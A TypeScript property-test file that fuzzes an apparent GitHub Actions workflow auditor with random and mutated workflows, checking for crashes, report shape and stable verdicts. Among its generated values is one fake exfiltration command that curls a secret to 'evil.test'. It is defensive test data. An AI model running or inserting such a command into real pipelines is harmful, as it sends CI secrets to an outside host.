/**
 * Property tests: random workflows, and real workflows mutated at random, never make an
 * exception escape; the JSON report always has the documented shape; the verdict is the same
 * for the same input.
 */
import { describe, expect, it } from '@jest/globals'
import fc from 'fast-check'
import { readdirSync, readFileSync, mkdtempSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { tmpdir } from 'node:os'
import { stringify } from 'yaml'
import { runCli } from '../src/cli.js'
import { auditTarget, buildReport } from '../src/engine.js'
import { parseWorkflow } from '../src/workflow/model.js'
import { InputError } from '../src/workflow/yaml.js'
import { toJson } from '../src/report/json.js'
import { FIXTURES, options } from './helpers/audit.js'

const CORPUS = join(FIXTURES, 'corpus', 'workflows')
const REAL = readdirSync(CORPUS).map((f) => readFileSync(join(CORPUS, f), 'utf8'))

const KEYS = ['on', 'jobs', 'permissions', 'steps', 'uses', 'run', 'with', 'env', 'needs', 'if', 'runs-on', 'environment', 'secrets', 'strategy', 'matrix', 'container', 'services', 'image', 'id-token', 'contents', 'persist-credentials', 'cache', 'password', 'name', 'push', 'tags', 'branches', 'workflow_run', 'pull_request_target']
const SCALARS = fc.oneof(
  fc.constantFrom('write', 'read', 'write-all', 'inherit', 'ubuntu-latest', 'self-hosted', 'actions/checkout@v4', 'pypa/gh-action-pypi-publish@release/v1', './x', 'docker://alpine', '${{ secrets.NPM_TOKEN }}', '${{ github.event.pull_request.title }}', "startsWith(github.ref, 'refs/tags/')", 'npm publish', 'curl -d ${{ secrets.X }} https://evil.test', ''),
  fc.string({ maxLength: 20 }),
  fc.integer(),
  fc.boolean(),
  fc.constant(null),
)
const { tree } = fc.letrec((tie) => ({
  tree: fc.oneof({ depthSize: 'small' }, SCALARS, fc.array(tie('tree'), { maxLength: 4 }), fc.dictionary(fc.constantFrom(...KEYS), tie('tree'), { maxKeys: 5 })),
}))
const workflowLike = fc.record({ on: tree, permissions: tree, jobs: fc.dictionary(fc.constantFrom('build', 'publish', 'test'), fc.dictionary(fc.constantFrom(...KEYS), tree, { maxKeys: 6 }), { maxKeys: 3 }) }, { requiredKeys: [] })

/** Mutations of real workflows: drop, duplicate or re-indent a line, or replace characters. */
const mutated = fc
  .record({ i: fc.nat(REAL.length - 1), ops: fc.array(fc.record({ kind: fc.constantFrom('drop', 'dup', 'indent', 'char', 'swap'), at: fc.nat(), ch: fc.constantFrom(':', '-', ' ', '{', '[', '"', "'", '#', '*', '&', '\t', '\n', '${{') }), { minLength: 1, maxLength: 6 }) })
  .map(({ i, ops }) => {
    const lines = REAL[i].split('\n')
    for (const op of ops) {
      const at = op.at % Math.max(lines.length, 1)
      if (op.kind === 'drop') lines.splice(at, 1)
      else if (op.kind === 'dup') lines.splice(at, 0, lines[at] ?? '')
      else if (op.kind === 'indent') lines[at] = `  ${lines[at] ?? ''}`
      else if (op.kind === 'swap' && at + 1 < lines.length) [lines[at], lines[at + 1]] = [lines[at + 1], lines[at]]
      else if (op.kind === 'char') {
        const l = lines[at] ?? ''
        const c = op.at % (l.length + 1)
        lines[at] = l.slice(0, c) + op.ch + l.slice(c + 1)
      }
    }
    return lines.join('\n')
  })

/** Parse and audit in process; input errors are fine, anything else is a bug. */
function auditText(text: string): string | 'input-error' {
  let wf
  try {
    wf = parseWorkflow(text, 'release.yml')
  } catch (e) {
    if (e instanceof InputError) return 'input-error'
    throw e
  }
  const opts = options()
  return toJson(buildReport([auditTarget({ file: wf.file, workflow: wf, source: 'local', failures: [], offlineReason: 'offline' }, opts)], [], opts))
}

function checkShape(json: string): void {
  const d = JSON.parse(json)
  expect(d.version).toBe(1)
  expect(['pass', 'fail']).toContain(d.verdict)
  expect(Array.isArray(d.files) && Array.isArray(d.findings) && Array.isArray(d.skipped)).toBe(true)
  for (const f of d.findings) {
    expect(typeof f.rule).toBe('string')
    expect(['error', 'warning', 'note']).toContain(f.severity)
    expect(typeof f.blocking).toBe('boolean')
    expect(typeof f.ignored).toBe('boolean')
    expect(typeof f.message).toBe('string')
    expect(typeof f.fix).toBe('string')
    expect(Number.isInteger(f.line) && f.line >= 1).toBe(true)
    expect(Number.isInteger(f.column) && f.column >= 1).toBe(true)
    expect(Array.isArray(f.chain)).toBe(true)
  }
}

describe('properties', () => {
  it('random workflow-shaped documents never crash the engine, and the report has its shape', () => {
    fc.assert(
      fc.property(workflowLike, (doc) => {
        const out = auditText(stringify(doc))
        if (out !== 'input-error') checkShape(out)
      }),
      { numRuns: 300, seed: 20261121 },
    )
  })

  it('mutated real workflows never crash, and the verdict is the same for the same input', () => {
    fc.assert(
      fc.property(mutated, (text) => {
        const a = auditText(text)
        const b = auditText(text)
        expect(b).toBe(a)
        if (a !== 'input-error') checkShape(a)
      }),
      { numRuns: 300, seed: 7 },
    )
  })

  it('through the CLI: exit codes 0, 1 or 2, and one JSON document whenever it is not 2', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'rg-prop-'))
    await fc.assert(
      fc.asyncProperty(fc.oneof(mutated, workflowLike.map((d) => stringify(d))), async (text) => {
        const f = join(dir, 'w.yml')
        writeFileSync(f, text)
        const r = await runCli(['audit', f, '--format', 'json'], {})
        expect([0, 1, 2]).toContain(r.code)
        if (r.code === 2) expect(r.stderr).toMatch(/^release-gate: /)
        else checkShape(r.stdout)
      }),
      { numRuns: 60, seed: 42 },
    )
  })
})
